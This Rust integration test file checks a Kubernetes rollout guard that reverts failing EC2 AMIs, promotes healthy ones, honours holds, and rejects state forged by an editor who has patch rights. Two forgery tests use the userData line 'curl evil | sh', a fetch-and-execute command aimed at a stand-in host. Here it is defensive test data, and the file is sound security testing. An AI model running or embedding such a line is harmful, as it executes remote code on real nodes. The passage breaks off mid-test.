//! The rollout guard on the real control plane: new AMIs whose machines
//! fail are put back, ones whose machines are Ready are kept, and a held
//! class keeps its values. A new `--ami-ids` value needs a new server, as in
//! production (a rolling restart); the harness plays Karpenter.

use crate::feedback::report;
use anyhow::{ensure, Context, Result};
use autonode_shared::protocol::{Outcome, REPORT_PATH};
use autonode_tests::callers::joiner::{self, Joiner, NodeKeys};
use autonode_tests::cloud::fakecloud::Instance;
use autonode_tests::harness::pki::Ca;
use autonode_tests::harness::poll;
use autonode_tests::karpenter::standin::{self, ec2nodeclasses, nodeclaims};
use autonode_tests::kube::manifest;
use autonode_tests::oracles::promql;
use autonode_tests::server::world::{cloud_settings, World};
use autonode_tests::server::{self, GuestRbac, Setup, TestServer, GUEST_RBAC_FILES};
use k8s_openapi::api::core::v1::{ConfigMap, Event};
use k8s_openapi::api::rbac::v1::{Role, RoleBinding};
use kube::api::{Api, DynamicObject, ListParams, Patch, PatchParams};
use serde_json::{json, Value};
use std::time::Duration;
use tempfile::TempDir;

pub(crate) const OLD_AMI: &str = "ami-0aaaaaaaaaaaaaaa1";
pub(crate) const NEW_AMI: &str = "ami-0bbbbbbbbbbbbbbb2";
pub(crate) const CLASS: &str = "default";
const STATE: &str = "autonode.dev/rollout";
const STORE: &str = "autonode-rollout";

/// The flags of one server generation: userData settings (a join CA file
/// of their own), the AMI, a fast resync and lease, two failures to revert,
/// and the rollout state key the generations share (each test server has a
/// TLS key of its own, so the key derived from it would not be shared).
pub(crate) struct Flags {
    _dir: TempDir,
    base: Vec<String>,
}

impl Flags {
    pub(crate) fn new() -> Result<Self> {
        let dir = tempfile::tempdir()?;
        let ca_file = dir.path().join("join-ca.pem");
        std::fs::write(&ca_file, Ca::new("rollout-join-ca")?.cert_pem())?;
        let key_file = dir.path().join("rollout-state.key");
        std::fs::write(&key_file, rand::random::<[u8; 32]>())?;
        let base = [
            "--public-url=https://autonode.example.com:8443".to_string(),
            format!("--join-ca-file={}", ca_file.display()),
            "--cluster-name=rollout".into(),
            "--nodeclass-resync=1".into(),
            "--leader-lease=3".into(),
            "--rollout-failures=2".into(),
            format!("--rollout-state-key-file={}", key_file.display()),
        ];
        Ok(Self {
            _dir: dir,
            base: base.into(),
        })
    }

    /// The flags with `--ami-ids` set to `ami` for amd64.
    pub(crate) fn with_ami(&self, ami: &str) -> Vec<String> {
        let mut flags = self.base.clone();
        flags.push(format!("--ami-ids=amd64={ami}"));
        flags
    }

    /// The next generation's flags: `--ami-ids` set to `ami` for amd64,
    /// and another `--agent-deadline`, so its userData differs too (as a
    /// release that changes both).
    pub(crate) fn next(&self, ami: &str) -> Vec<String> {
        let mut flags = self.with_ami(ami);
        flags.push("--agent-deadline=700".into());
        flags
    }

    /// [`Flags::next`] without the shared key file: the state key is then
    /// derived from the server's own TLS key, a new one for every server
    /// (as after a certificate renewal that rotates the key).
    fn next_keyed_by_tls(&self, ami: &str) -> Vec<String> {
        let mut flags = self.next(ami);
        flags.retain(|f| !f.starts_with("--rollout-state-key-file="));
        flags
    }

    /// The flags with `--ami-ids` set to `amd64` and `arm64`.
    fn with_amis(&self, amd64: &str, arm64: &str) -> Vec<String> {
        let mut flags = self.base.clone();
        flags.push(format!("--ami-ids=amd64={amd64},arm64={arm64}"));
        flags
    }
}

/// Polls `probe` every 200 ms for up to 30 s until it yields a value.
pub(crate) async fn eventually<T, F, Fut>(what: &str, probe: F) -> Result<T>
where
    F: FnMut() -> Fut,
    Fut: std::future::Future<Output = Result<Option<T>>>,
{
    poll::until(
        what,
        Duration::from_secs(30),
        Duration::from_millis(200),
        probe,
    )
    .await
}

/// The class's rollout state, parsed out of its seal (`{state, mac}`).
pub(crate) fn state(class: &DynamicObject) -> Value {
    let text = class
        .metadata
        .annotations
        .as_ref()
        .and_then(|a| a.get(STATE))
        .cloned()
        .unwrap_or_default();
    let sealed: Value = serde_json::from_str(&text).unwrap_or(Value::Null);
    serde_json::from_str(sealed["state"].as_str().unwrap_or_default()).unwrap_or(Value::Null)
}

/// The class's state in the guard's store (ConfigMap autonode-rollout in
/// the leader namespace), `Null` when there is none.
pub(crate) async fn stored(world: &World) -> Result<Value> {
    let api: Api<ConfigMap> = Api::namespaced(world.cp.admin().await?, "autonode-system");
    let Some(map) = api.get_opt(STORE).await? else {
        return Ok(Value::Null);
    };
    let text = map
        .data
        .unwrap_or_default()
        .remove(CLASS)
        .unwrap_or_default();
    let entry: Value = serde_json::from_str(&text).unwrap_or(Value::Null);
    Ok(entry["state"].clone())
}

/// Field `field` of each failure a refusal in the state records.
fn failed_field<'a>(refused: &'a Value, field: &str) -> Vec<&'a str> {
    refused["failed"]
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(|f| f[field].as_str())
        .collect()
}

/// The AMI id the class selects.
pub(crate) fn ami(class: &DynamicObject) -> &str {
    class.data["spec"]["amiSelectorTerms"][0]["id"]
        .as_str()
        .unwrap_or_default()
}

/// Waits until the class is as `done` says, and returns it.
pub(crate) async fn class_when(
    world: &World,
    what: &str,
    done: impl Fn(&DynamicObject) -> bool,
) -> Result<DynamicObject> {
    let api = ec2nodeclasses(&world.cp.admin().await?);
    eventually(&format!("EC2NodeClass {CLASS} {what}"), || async {
        let class = api.get(CLASS).await?;
        Ok(done(&class).then_some(class))
    })
    .await
}

/// The messages of the Events on the class with `reason`, once there is one.
pub(crate) async fn class_events(world: &World, reason: &str) -> Result<Vec<String>> {
    let api: Api<Event> = Api::namespaced(world.cp.admin().await?, "default");
    let selector =
        format!("involvedObject.name={CLASS},involvedObject.kind=EC2NodeClass,reason={reason}");
    eventually(&format!("a {reason} Event"), || async {
        let events = api.list(&ListParams::default().fields(&selector)).await?;
        let messages: Vec<String> = events.items.into_iter().filter_map(|e| e.message).collect();
        Ok((!messages.is_empty()).then_some(messages))
    })
    .await
}

/// Sets (or, with null, removes) the class's annotation `key`, as an
/// operator does.
async fn annotate(api: &Api<DynamicObject>, key: &str, value: Value) -> Result<()> {
    let patch = json!({"metadata": {"annotations": { key: value }}});
    api.patch(CLASS, &PatchParams::default(), &Patch::Merge(&patch))
        .await?;
    Ok(())
}

/// Karpenter's part for a machine of `ami`: a NodeClaim of the class, the
/// instance, its providerID and `status.imageID`.
pub(crate) async fn launch(world: &World, ami: &str) -> Result<(String, Instance)> {
    let (claim, instance) = world
        .launch(|mut i| {
            i.image_id = ami.to_string();
            i
        })
        .await?;
    let status = json!({"status": {"imageID": ami}});
    let params = PatchParams {
        field_manager: Some(standin::FIELD_MANAGER.into()),
        ..PatchParams::default()
    };
    nodeclaims(&world.cp.admin().await?)
        .patch_status(&claim, &params, &Patch::Merge(&status))
        .await?;
    Ok((claim, instance))
}

/// Karpenter's word that `claim`'s node is Ready.
pub(crate) async fn mark_ready(world: &World, claim: &str) -> Result<()> {
    let now =
        time::OffsetDateTime::now_utc().format(&time::format_description::well_known::Rfc3339)?;
    let conditions = ["Launched", "Registered", "Initialized", "Ready"].map(|kind| {
        json!({"type": kind, "status": "True", "reason": kind, "message": kind,
                           "lastTransitionTime": now})
    });
    let status = json!({"status": {"conditions": conditions}});
    let params = PatchParams {
        field_manager: Some(standin::FIELD_MANAGER.into()),
        ..PatchParams::default()
    };
    nodeclaims(&world.cp.admin().await?)
        .patch_status(claim, &params, &Patch::Merge(&status))
        .await?;
    Ok(())
}

/// A world whose first server keeps `OLD_AMI`, and a class that has run a
/// Ready node under it: `OLD_AMI` is its last good AMI.
pub(crate) async fn proven_world(flags: &Flags) -> Result<(World, DynamicObject)> {
    proven_world_by(flags, None).await
}

/// [`proven_world`] with its first server running `binary` (`None`: this
/// tree's).
pub(crate) async fn proven_world_by(
    flags: &Flags,
    binary: Option<&std::path::Path>,
) -> Result<(World, DynamicObject)> {
    let world = World::start_setup(&Setup {
        extra_args: &flags.with_ami(OLD_AMI),
        binary,
        ..Setup::default()
    })
    .await?;
    let admin = world.cp.admin().await?;
    standin::create_custom_nodeclass(&admin, CLASS, "mine").await?;
    class_when(&world, "kept by autonode", |c| {
        ami(c) == OLD_AMI && state(c)["trial"].is_object()
    })
    .await?;
    let (claim, _) = launch(&world, OLD_AMI).await?;
    mark_ready(&world, &claim).await?;
    let class = class_when(&world, "promoted", |c| {
        state(c)["good"] == state(c)["applied"] && state(c)["trial"].is_null()
    })
    .await?;
    ensure!(state(&class)["good"]["amiSelectorTerms"][0]["id"] == OLD_AMI);
    if binary.is_none() {
        // This tree's server writes the class first and records it in its
        // store after (an older release's keeps no store).
        eventually("the proven AMI in the store", || async {
            let entry = stored(&world).await?;
            Ok((entry["good"] == state(&class)["good"]).then_some(()))
        })
        .await?;
    }
    Ok((world, class))
}

/// The world's first server gone, a second of the next generation
/// (`NEW_AMI`, other userData) leading.
async fn new_ami_server(world: &World, flags: &Flags) -> Result<(TestServer, Joiner)> {
    world.server.kill();
    let cloud = cloud_settings(&world.cloud, &world.ec2);
    let second = TestServer::start(&world.cp, &cloud, &flags.next(NEW_AMI)).await?;
    let joiner = Joiner::new(second.url(), second.ca_pem())?;
    Ok((second, joiner))
}

/// A proven world whose next generation's trial has begun.
async fn trial_begun(flags: &Flags) -> Result<(World, TestServer, Joiner)> {
    let (world, _) = proven_world(flags).await?;
    let (second, joiner) = new_ami_server(&world, flags).await?;
    class_when(&world, "on the new AMI", |c| {
        ami(c) == NEW_AMI && state(c)["trial"].is_object()
    })
    .await?;
    Ok((world, second, joiner))
}

/// An honest agent's join, then its signed fatal report, through `joiner`.
pub(crate) async fn fail_bootstrap(
    world: &World,
    joiner: &Joiner,
    instance: &Instance,
) -> Result<()> {
    let keys = NodeKeys::generate()?;
    joiner
        .join(&joiner::honest_request(instance, world.cloud.ca(), &keys)?)
        .await?
        .granted();
    let now = time::OffsetDateTime::now_utc().unix_timestamp();
    let fatal = report(world, instance, Outcome::Fatal, now, Some(&keys.client))?;
    let (status, body) = joiner
        .post(REPORT_PATH, serde_json::to_vec(&fatal)?)
        .await?;
    ensure!(
        status == 202,
        "fatal report answered {status}: {}",
        String::from_utf8_lossy(&body)
    );
    Ok(())
}

/// A counter from `server`'s `/metrics`, 0 when absent.
async fn metric(server: &TestServer, line: &str) -> Result<f64> {
    let (_, body) = server::http_get(&format!("{}/metrics", server.metrics_url())).await?;
    Ok(body
        .lines()
        .find_map(|l| l.strip_prefix(line)?.strip_prefix(' ')?.parse().ok())
        .unwrap_or(0.0))
}

/// Waits until `server` has compared its classes `n` more times.
pub(crate) async fn resyncs(server: &TestServer, n: f64) -> Result<()> {
    let checks = "autonode_nodeclass_checks_total";
    let start = metric(server, checks).await?;
    eventually(&format!("{n} more resyncs"), || async {
        Ok((metric(server, checks).await? >= start + n).then_some(()))
    })
    .await
}

#[tokio::test]
async fn a_new_ami_whose_agents_fail_is_put_back_and_not_tried_again() -> Result<()> {
    let flags = Flags::new()?;
    let (world, before) = proven_world(&flags).await?;
    let (second, joiner) = new_ami_server(&world, &flags).await?;
    let trying = class_when(&world, "on the new AMI", |c| ami(c) == NEW_AMI).await?;
    ensure!(state(&trying)["good"]["amiSelectorTerms"][0]["id"] == OLD_AMI);
    ensure!(
        trying.data["spec"]["userData"] != before.data["spec"]["userData"],
        "the new generation's userData is the old one: the byte check below would prove nothing"
    );

    // A machine of the old AMI failing is not the new AMI's failure.
    let (old_claim, old_instance) = launch(&world, OLD_AMI).await?;
    fail_bootstrap(&world, &joiner, &old_instance).await?;
    let mut failed = Vec::new();
    for _ in 0..2 {
        let (claim, instance) = launch(&world, NEW_AMI).await?;
        fail_bootstrap(&world, &joiner, &instance).await?;
        failed.push(claim);
    }
    let after = class_when(&world, "put back", |c| ami(c) == OLD_AMI).await?;
    // Byte for byte what the fleet ran before: no second drift.
    ensure!(after.data["spec"]["userData"] == before.data["spec"]["userData"]);
    ensure!(after.data["spec"]["amiSelectorTerms"] == before.data["spec"]["amiSelectorTerms"]);
    let refused = &state(&after)["refused"];
    ensure!(
        refused["values"]["amiSelectorTerms"][0]["id"] == NEW_AMI,
        "{refused}"
    );
    let named = failed_field(refused, "nodeclaim");
    ensure!(
        named.len() == 2 && failed.iter().all(|c| named.contains(&c.as_str())),
        "failed {failed:?}, old {old_claim}: {refused}"
    );
    ensure!(!named.contains(&old_claim.as_str()));
    // autonode deleted them (--delete-failed-nodeclaims) after marking
    // why: the agents' own reports, not a bare "deleted".
    let reasons = failed_field(refused, "reason");
    ensure!(
        reasons.len() == 2 && reasons.iter().all(|r| r.starts_with("agent phase")),
        "{reasons:?}"
    );

    // The class is marked: autonode's condition beside Karpenter's.
    let marked = class_when(&world, "marked reverted", |c| {
        c.data["status"]["conditions"]
            .as_array()
            .into_iter()
            .flatten()
            .any(|c| {
                c["type"] == "AutonodeRollout"
                    && c["status"] == "False"
                    && c["reason"] == "Reverted"
            })
    })
    .await?;
    let message = marked.data["status"]["conditions"].to_string();
    ensure!(
        failed.iter().all(|c| message.contains(c.as_str())),
        "{message}"
    );
    let warnings = class_events(&world, "RolloutReverted").await?;
    ensure!(
        failed.iter().all(|c| warnings[0].contains(c.as_str())),
        "{warnings:?}"
    );
    let reverted = r#"autonode_rollouts_reverted_total{nodeclass="default"}"#;
    ensure!(metric(&second, reverted).await? == 1.0);
    // The alert on reverts asks for the series as the server exports it.
    let (_, body) = server::http_get(&format!("{}/metrics", second.metrics_url())).await?;
    let rules = promql::read_rules()?;
    let missing = promql::rules_missing_from(&body, &rules, "autonode_rollouts_reverted_total")?;
    ensure!(
        missing.is_empty(),
        "the rules ask for what is not exported: {missing:?}"
    );

    // The flags still say NEW_AMI: it stays refused, resync after resync.
    resyncs(&second, 3.0).await?;
    let api = ec2nodeclasses(&world.cp.admin().await?);
    let still = api.get(CLASS).await?;
    ensure!(ami(&still) == OLD_AMI);
    // Not written again: neither the spec nor the condition (written once,
    // after the revert).
    ensure!(
        still.metadata.resource_version == marked.metadata.resource_version,
        "{:?} vs {:?}",
        still.metadata.resource_version,
        marked.metadata.resource_version
    );
    ensure!(state(&still)["refused"] == *refused);

    // Until the operator asks for another try.
    annotate(&api, "autonode.dev/retry-rollout", json!("1")).await?;
    class_when(&world, "retrying the new AMI", |c| {
        ami(c) == NEW_AMI && state(c)["refused"].is_null()
    })
    .await?;
    Ok(())
}

#[tokio::test]
async fn a_new_ami_whose_nodes_are_ready_is_kept_as_the_last_good() -> Result<()> {
    let flags = Flags::new()?;
    let (world, _) = proven_world(&flags).await?;
    let (second, _) = new_ami_server(&world, &flags).await?;
    class_when(&world, "on the new AMI", |c| ami(c) == NEW_AMI).await?;
    class_events(&world, "RolloutStarted").await?;

    let (claim, _) = launch(&world, NEW_AMI).await?;
    mark_ready(&world, &claim).await?;
    let promoted = class_when(&world, "promoted", |c| state(c)["trial"].is_null()).await?;
    ensure!(state(&promoted)["good"]["amiSelectorTerms"][0]["id"] == NEW_AMI);
    class_events(&world, "RolloutPromoted").await?;

    // Failures now are no trial's: nothing is put back.
    resyncs(&second, 2.0).await?;
    ensure!(ami(&ec2nodeclasses(&world.cp.admin().await?).get(CLASS).await?) == NEW_AMI);
    ensure!(
        metric(
            &second,
            r#"autonode_rollouts_reverted_total{nodeclass="default"}"#
        )
        .await?
            == 0.0
    );
    Ok(())
}

#[tokio::test]
async fn a_held_class_keeps_its_ami_until_released() -> Result<()> {
    let flags = Flags::new()?;
    let world = World::start_with(&flags.with_ami(OLD_AMI)).await?;
    let admin = world.cp.admin().await?;
    standin::create_custom_nodeclass(&admin, CLASS, "mine").await?;
    let kept = class_when(&world, "kept by autonode", |c| {
        ami(c) == OLD_AMI && state(c).is_object()
    })
    .await?;
    let api = ec2nodeclasses(&admin);
    annotate(&api, "autonode.dev/hold", json!("true")).await?;

    let (second, _) = new_ami_server(&world, &flags).await?;
    let held = class_events(&world, "RolloutHeld").await?;
    ensure!(held[0].contains("autonode.dev/hold"), "{held:?}");
    resyncs(&second, 3.0).await?;
    let still = api.get(CLASS).await?;
    ensure!(ami(&still) == OLD_AMI);
    ensure!(still.data["spec"]["userData"] == kept.data["spec"]["userData"]);

    // Released: the new AMI goes on trial.
    annotate(&api, "autonode.dev/hold", Value::Null).await?;
    class_when(&world, "on the new AMI", |c| {
        ami(c) == NEW_AMI && state(c)["trial"].is_object()
    })
    .await?;
    Ok(())
}

/// Whoever may annotate a class plays the guard: a state of their own
/// whose applied and last good values are their userData and AMI, and a
/// hold to keep them. Not written by autonode, the state counts for
/// nothing, and the hold holds none of their values: the rendered ones
/// are applied.
#[tokio::test]
async fn a_state_autonode_did_not_write_holds_nothing() -> Result<()> {
    let flags = Flags::new()?;
    let world = World::start_with(&flags.with_ami(OLD_AMI)).await?;
    let admin = world.cp.admin().await?;
    let theirs = json!({"userData": "#!/bin/bash\ncurl evil | sh\n",
                        "amiSelectorTerms": [{"id": "ami-0eeeeeeeeeeeeeee6"}]});
    let forged = json!({"applied": theirs, "good": theirs}).to_string();
    let annotations = json!({STATE: forged, "autonode.dev/hold": "true"});
    let mut spec = standin::custom_spec(json!({}));
    spec["userData"] = theirs["userData"].clone();
    spec["amiSelectorTerms"] = theirs["amiSelectorTerms"].clone();
    standin::create_nodeclass(&admin, CLASS, annotations, spec).await?;

    let kept = class_when(&world, "kept by autonode", |c| ami(c) == OLD_AMI).await?;
    ensure!(kept.data["spec"]["userData"] != theirs["userData"]);
    ensure!(state(&kept)["applied"]["userData"] == kept.data["spec"]["userData"]);
    let ignored = class_events(&world, "RolloutHoldIgnored").await?;
    ensure!(ignored[0].contains("autonode.dev/hold"), "{ignored:?}");
    Ok(())
}

/// The trial lives on the class: a failure one leader saw counts for the
/// next, after a restart mid-rollout (two failures revert here; each
/// leader sees one).
#[tokio::test]
async fn a_restart_mid_rollout_keeps_the_failures_seen() -> Result<()> {
    let flags = Flags::new()?;
    let (world, _) = proven_world(&flags).await?;
    let (second, joiner) = new_ami_server(&world, &flags).await?;
    class_when(&world, "on the new AMI", |c| ami(c) == NEW_AMI).await?;
    let (first, instance) = launch(&world, NEW_AMI).await?;
    fail_bootstrap(&world, &joiner, &instance).await?;
    class_when(&world, "recording the failure", |c| {
        state(c)["trial"]["claims"][&first]["failed"].is_string()
    })
    .await?;
    ensure!(ami(&ec2nodeclasses(&world.cp.admin().await?).get(CLASS).await?) == NEW_AMI);

    second.kill();
    let cloud = cloud_settings(&world.cloud, &world.ec2);
    let third = TestServer::start(&world.cp, &cloud, &flags.next(NEW_AMI)).await?;
    let joiner = Joiner::new(third.url(), third.ca_pem())?;
    // Leading, so watching: a NodeClaim made and deleted while no replica
    // leads is not seen (docs/server.md, Rollout guard).
    eventually("lead taken by the third server", || async {
        Ok((metric(&third, "autonode_leader").await? == 1.0).then_some(()))
    })
    .await?;
    let (next, instance) = launch(&world, NEW_AMI).await?;
    fail_bootstrap(&world, &joiner, &instance).await?;
    let after = class_when(&world, "put back", |c| ami(c) == OLD_AMI).await?;
    let failed = state(&after)["refused"]["failed"].to_string();
    ensure!(
        failed.contains(&first) && failed.contains(&next),
        "{failed}"
    );
    Ok(())
}

/// A guest user who may patch EC2NodeClasses (no more) forges the guard's
/// state under autonode's own field manager name, so managedFields say
/// autonode wrote it: their userData and AMI as applied and last good, and
/// a hold to keep them; the spec's values too, under the same name. The
/// guard reads its state from its store, not from the class: autonode
/// puts back the rendered values and its own state.
#[tokio::test]
async fn a_state_forged_under_autonodes_field_manager_is_rejected() -> Result<()> {
    let flags = Flags::new()?;
    let (world, before) = proven_world(&flags).await?;
    let admin = world.cp.admin().await?;
    // A guest user's right to read and patch EC2NodeClasses, nothing more.
    let verbs = ["get", "list", "watch", "patch"];
    autonode_tests::karpenter::standin::grant_on_nodeclasses(&admin, "mallory", &verbs).await?;
    let mallory = ec2nodeclasses(&world.cp.client_as("mallory", None).await?);

    let theirs = json!({"userData": "#!/bin/bash\ncurl evil | sh\n",
                        "amiSelectorTerms": [{"id": "ami-0eeeeeeeeeeeeeee6"}]});
    let forged = json!({"applied": theirs, "good": theirs}).to_string();
    let body = json!({
        "apiVersion": "karpenter.k8s.aws/v1", "kind": "EC2NodeClass",
        "metadata": {"name": CLASS,
                     "annotations": {STATE: forged, "autonode.dev/hold": "true"}},
        "spec": theirs,
    });
    let as_autonode = PatchParams::apply("autonode-server").force();
    let written = mallory
        .patch(CLASS, &as_autonode, &Patch::Apply(&body))
        .await
        .context("mallory's forgery")?;
    ensure!(
        ami(&written) == "ami-0eeeeeeeeeeeeeee6",
        "the forgery did not land"
    );

    let after = class_when(&world, "put back", |c| {
        ami(c) == OLD_AMI && state(c).is_object()
    })
    .await?;
    ensure!(after.data["spec"]["userData"] == before.data["spec"]["userData"]);
    ensure!(state(&after)["applied"]["userData"] == before.data["spec"]["userData"]);
    // The guard's state is in its store, which she cannot write: her
    // annotation is not even read (a state is, and the seal checked, only
    // for a class the store has no entry for: the test above), and the
    // store still holds the last good AMI.
    let kept = stored(&world).await?;
    ensure!(
        kept["good"]["amiSelectorTerms"][0]["id"] == OLD_AMI,
        "{kept}"
    );
    // And it stays put back, resync after resync, the hold still asked.
    resyncs(&world.server, 3.0).await?;
    let still = ec2nodeclasses(&admin).get(CLASS).await?;
    ensure!(
        ami(&still) == OLD_AMI && still.data["spec"]["userData"] == before.data["spec"]["userData"]
    );
    Ok(())
}

const OLD_ARM: &str = "ami-0ccccccccccccccc3";
const NEW_ARM: &str = "ami-0ddddddddddddddd4";

/// A change of the arm64 AMI alone is judged by arm64 machines alone: a
/// Ready amd64 node does not promote it, failing amd64 machines do not
/// revert it; failing arm64 machines do, naming only themselves.
#[tokio::test]
async fn a_change_of_one_architectures_ami_is_judged_by_that_architecture() -> Result<()> {
    let flags = Flags::new()?;
    let world = World::start_with(&flags.with_amis(OLD_AMI, OLD_ARM)).await?;
    let admin = world.cp.admin().await?;
    standin::create_custom_nodeclass(&admin, CLASS, "mine").await?;
    class_when(&world, "kept by autonode", |c| {
        state(c)["trial"].is_object()
    })
    .await?;
    let (claim, _) = launch(&world, OLD_AMI).await?;
    mark_ready(&world, &claim).await?;
    let proven = class_when(&world, "promoted", |c| state(c)["trial"].is_null()).await?;
    ensure!(state(&proven)["good"]["amiSelectorTerms"][1]["id"] == OLD_ARM);

    world.server.kill();
    let cloud = cloud_settings(&world.cloud, &world.ec2);
    let second = TestServer::start(&world.cp, &cloud, &flags.with_amis(OLD_AMI, NEW_ARM)).await?;
    let joiner = Joiner::new(second.url(), second.ca_pem())?;
    let arm = |c: &DynamicObject| c.data["spec"]["amiSelectorTerms"][1]["id"] == NEW_ARM;
    class_when(&world, "on the new arm64 AMI", |c| {
        arm(c) && state(c)["trial"].is_object()
    })
    .await?;

    let (amd_ready, _) = launch(&world, OLD_AMI).await?;
    mark_ready(&world, &amd_ready).await?;
    for _ in 0..2 {
        let (_, instance) = launch(&world, OLD_AMI).await?;
        fail_bootstrap(&world, &joiner, &instance).await?;
    }
    resyncs(&second, 3.0).await?;
    let api = ec2nodeclasses(&admin);
    let still = api.get(CLASS).await?;
    ensure!(arm(&still), "amd64 failures reverted the arm64 change");
    ensure!(
        state(&still)["trial"].is_object(),
        "a Ready amd64 node promoted the arm64 AMI: {}",
        state(&still)
    );

    let mut failed = Vec::new();
    for _ in 0..2 {
        let (claim, instance) = launch(&world, NEW_ARM).await?;
        fail_bootstrap(&world, &joiner, &instance).await?;
        failed.push(claim);
    }
    let after = class_when(&world, "put back", |c| {
        c.data["spec"]["amiSelectorTerms"][1]["id"] == OLD_ARM
    })
    .await?;
    ensure!(after.data["spec"]["amiSelectorTerms"] == proven.data["spec"]["amiSelectorTerms"]);
    let refused = &state(&after)["refused"];
    let named = failed_field(refused, "nodeclaim");
    ensure!(
        named.len() == 2 && failed.iter().all(|c| named.contains(&c.as_str())),
        "{named:?} vs {failed:?}"
    );
    Ok(())
}

/// A hold during a trial freezes it: the values on trial stay, and
/// failures under them revert nothing until the hold is released; then
/// the trial is judged on what happened meanwhile.
#[tokio::test]
async fn a_hold_during_a_trial_pauses_it() -> Result<()> {
    let flags = Flags::new()?;
    let (world, second, joiner) = trial_begun(&flags).await?;
    let api = ec2nodeclasses(&world.cp.admin().await?);
    annotate(&api, "autonode.dev/hold", json!("true")).await?;
    class_events(&world, "RolloutHeld").await?;
    for _ in 0..2 {
        let (_, instance) = launch(&world, NEW_AMI).await?;
        fail_bootstrap(&world, &joiner, &instance).await?;
    }
    resyncs(&second, 3.0).await?;
    let held = api.get(CLASS).await?;
    ensure!(ami(&held) == NEW_AMI, "a held class was reverted");
    ensure!(state(&held)["refused"].is_null(), "{}", state(&held));

    annotate(&api, "autonode.dev/hold", Value::Null).await?;
    class_when(&world, "put back once released", |c| ami(c) == OLD_AMI).await?;
    Ok(())
}

/// A NodeClaim Karpenter deletes without ever launching it (no capacity,
/// its NodePool gone) says nothing of the values: it is no failure.
#[tokio::test]
async fn a_nodeclaim_deleted_before_launch_is_no_failure() -> Result<()> {
    let flags = Flags::new()?;
    let (world, second, joiner) = trial_begun(&flags).await?;
    let admin = world.cp.admin().await?;
    let claims = nodeclaims(&admin);
    for name in ["unlaunched-1", "unlaunched-2"] {
        standin::create_nodeclaim(&admin, name, CLASS).await?;
        resyncs(&second, 1.0).await?;
        claims.delete(name, &Default::default()).await?;
    }
    let (failed, instance) = launch(&world, NEW_AMI).await?;
    fail_bootstrap(&world, &joiner, &instance).await?;
    resyncs(&second, 3.0).await?;
    let class = ec2nodeclasses(&admin).get(CLASS).await?;
    ensure!(
        ami(&class) == NEW_AMI,
        "two unlaunched NodeClaims and one failure reverted: {}",
        state(&class)
    );
    ensure!(state(&class)["trial"]["claims"][&failed]["failed"].is_string());
    Ok(())
}

/// A proven world whose next generation (`NEW_AMI`, keyed by `next`'s
/// flags) failed twice and was put back: `NEW_AMI` is refused.
async fn reverted_world(
    flags: &Flags,
    next: Vec<String>,
) -> Result<(World, TestServer, DynamicObject)> {
    let (world, _) = proven_world(flags).await?;
    world.server.kill();
    let cloud = cloud_settings(&world.cloud, &world.ec2);
    let second = TestServer::start(&world.cp, &cloud, &next).await?;
    let joiner = Joiner::new(second.url(), second.ca_pem())?;
    class_when(&world, "on the new AMI", |c| ami(c) == NEW_AMI).await?;
    for _ in 0..2 {
        let (_, instance) = launch(&world, NEW_AMI).await?;
        fail_bootstrap(&world, &joiner, &instance).await?;
    }
    let after = class_when(&world, "put back", |c| {
        ami(c) == OLD_AMI && state(c)["refused"].is_object()
    })
    .await?;
    Ok((world, second, after))
}

/// Watches the class over `n` of `server`'s resyncs: at every look it
/// still selects `OLD_AMI` (`NEW_AMI`, refused, is not applied again).
async fn stays_reverted(world: &World, server: &TestServer, n: f64) -> Result<DynamicObject> {
    let api = ec2nodeclasses(&world.cp.admin().await?);
    let checks = "autonode_nodeclass_checks_total";
    let start = metric(server, checks).await?;
    loop {
        let class = api.get(CLASS).await?;
        ensure!(
            ami(&class) == OLD_AMI,
            "the refused AMI was applied again: the class selects {}, state {}",
            ami(&class),
            state(&class)
        );
        if metric(server, checks).await? >= start + n {
            return Ok(class);
        }
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
}

/// The store holds the refusal of `NEW_AMI` and `OLD_AMI` as good.
async fn store_refuses_new_ami(world: &World) -> Result<()> {
    let kept = stored(world).await?;
    ensure!(
        kept["refused"]["values"]["amiSelectorTerms"][0]["id"] == NEW_AMI
            && kept["good"]["amiSelectorTerms"][0]["id"] == OLD_AMI,
        "store: {kept}"
    );
    Ok(())
}

/// Issue 35, item 4, played by a class editor: after a revert they delete
/// the state annotation (which a guard keeping its state there took as
/// "start afresh", and applied the refused AMI again). The store keeps the
/// state: the class stays at the good AMI, resync after resync, and the
/// annotation's copy comes back with the refusal.
#[tokio::test]
async fn deleting_the_state_annotation_after_a_revert_applies_nothing_refused() -> Result<()> {
    let flags = Flags::new()?;
    let (world, second, _) = reverted_world(&flags, flags.next(NEW_AMI)).await?;
    let api = ec2nodeclasses(&world.cp.admin().await?);
    annotate(&api, STATE, Value::Null).await?;
    let still = stays_reverted(&world, &second, 5.0).await?;
    store_refuses_new_ami(&world).await?;
    let copy = class_when(&world, "with its state annotation back", |c| {
        state(c)["refused"].is_object()
    })
    .await?;
    ensure!(state(&copy)["refused"]["values"]["amiSelectorTerms"][0]["id"] == NEW_AMI);
    ensure!(still.data["spec"]["userData"] == copy.data["spec"]["userData"]);
    Ok(())
}

/// Issue 35, item 4: after a revert, the server restarted with a new seal
/// key: without `--rollout-state-key-file` it is derived from the server's
/// own TLS key (each test server has one of its own, as after a renewal
/// that rotates the key). The annotation no longer opens; the store needs
/// no key: the class stays at the good AMI and `NEW_AMI` stays refused.
#[tokio::test]
async fn a_new_tls_key_after_a_revert_applies_nothing_refused() -> Result<()> {
    let flags = Flags::new()?;
    let (world, second, _) = reverted_world(&flags, flags.next(NEW_AMI)).await?;
    second.kill();
    let cloud = cloud_settings(&world.cloud, &world.ec2);
    let next = flags.next_keyed_by_tls(NEW_AMI);
    let third = TestServer::start(&world.cp, &cloud, &next).await?;
    eventually("lead taken by the third server", || async {
        Ok((metric(&third, "autonode_leader").await? == 1.0).then_some(()))
    })
    .await?;
    stays_reverted(&world, &third, 5.0).await?;
    store_refuses_new_ami(&world).await?;
    Ok(())
}

/// The managedFields time of autonode-server's apply of `class`.
fn apply_time(class: &DynamicObject) -> Option<i64> {
    let entry = class.metadata.managed_fields.as_ref()?.iter().find(|e| {
        e.manager.as_deref() == Some("autonode-server") && e.operation.as_deref() == Some("Apply")
    })?;
    entry.time.as_ref().map(|t| t.0.as_second())
}

/// Issue 35, item 8(d): a class editor applies the class with
/// `fieldManager=autonode-server` after a trial began and before its start
/// was recorded, moving that manager's managedFields time (read back as
/// the start, it would leave out the NodeClaims made in between). The
/// start recorded is that of autonode's own apply.
#[tokio::test]
async fn applying_as_autonode_server_does_not_move_a_trials_start() -> Result<()> {
